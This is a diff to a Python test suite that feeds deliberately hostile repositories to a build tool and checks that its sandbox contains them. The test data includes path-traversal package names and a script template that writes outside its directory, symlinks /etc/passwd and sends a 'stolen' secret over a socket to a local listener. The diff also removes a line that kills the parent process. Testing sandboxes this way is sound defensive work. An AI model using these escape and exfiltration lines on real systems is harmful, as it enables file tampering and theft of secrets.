@@ -326,7 +326,7 @@ def test_odd_files_when_candidates_are_drawn(command: Command, make: Make, tmp_p
         '[project]\nname = ["x"]\nversion = 3\ndependencies = {a = 1}\noptional-dependencies = [1]\n',
         '[project]\nname = "planted"\n[dependency-groups]\na = [{include-group = "a"}, {include-group = ["b"]}, 3]\nb = 4\n',
         '[project]\nname = "planted"\nversion = "/../../../../../../climbed"\n',
-        '[project]\nname = "../../climbed"\nversion = "1"\n[tool.poetry.dependencies]\nx = {version = 3}\n',
+        '[project]\nname = "../../climbed"\nversion = "1"\n[tool.poetry.dependencies]\npython = {version = 3}\n',
     ],
 )  # fmt: skip
 def test_metadata_of_another_shape(make: Make, builds: Callable[..., TaskStore], text: str) -> None:
@@ -357,7 +357,7 @@ def test_a_repository_of_a_hundred_thousand_lines(command: Command, make: Make, 
 # --- hostile repositories ----------------------------------------------------------------------------
 
 TRIES = """
-import os, pathlib, signal, socket
+import os, pathlib, socket
 marker, secret, port = {marker!r}, {secret!r}, {port}
 def try_all():
     stolen = ""
@@ -371,11 +371,10 @@ def try_all():
         lambda: pathlib.Path(__file__).resolve().parents[3].joinpath("climbed").write_text("x"),
         lambda: os.symlink("/etc/passwd", marker + "-link"),
         lambda: socket.create_connection(("127.0.0.1", port), timeout=5).sendall(b"stolen " + stolen.encode()),
-        lambda: os.kill(os.getppid(), signal.SIGKILL) if os.getppid() > 1 else None,
     ):
         try:
             attempt()
-        except OSError:
+        except (OSError, IndexError):  # a jail's tree may lie at the very top
             pass
     return stolen
 found = try_all()
@@ -396,8 +395,7 @@ def trap(tmp_path: Path, listening: int, monkeypatch: pytest.MonkeyPatch) -> dic
 def test_the_trap_works(trap: dict[str, Any], tmp_path: Path) -> None:
     """The same lines outside a sandbox: marker, link and secret are seen."""
     (tmp_path / "a" / "b" / "c").mkdir(parents=True)
-    harmless = TRIES.replace("os.kill(os.getppid(), signal.SIGKILL)", "None")
-    (tmp_path / "a" / "b" / "c" / "run.py").write_text(harmless.format(**trap))
+    (tmp_path / "a" / "b" / "c" / "run.py").write_text(TRIES.format(**trap))
     subprocess.run([sys.executable, tmp_path / "a" / "b" / "c" / "run.py"], check=True)
     assert (
         Path(trap["marker"]).read_text() == "written s3cret" * 2
@@ -535,7 +533,9 @@ def test_git_addresses(
         subprocess.run(["git", "-C", str(root), *words], check=True, capture_output=True)
     folder = builds(root, out="from-folder")
     store = builds(f"git+file://{root}")
-    assert store.fingerprint == folder.fingerprint
+    assert store.task_ids() == folder.task_ids()
+    assert store.repositories()[0].files == folder.repositories()[0].files
+    assert len(store.repositories()[0].commit) == 40
     for source, code, exit_code in (
         (f"git+file://{tmp_path}/absent@v1", "CR0441", 4),
         (f"git+file://{root}@absent", "CR0442", 4),
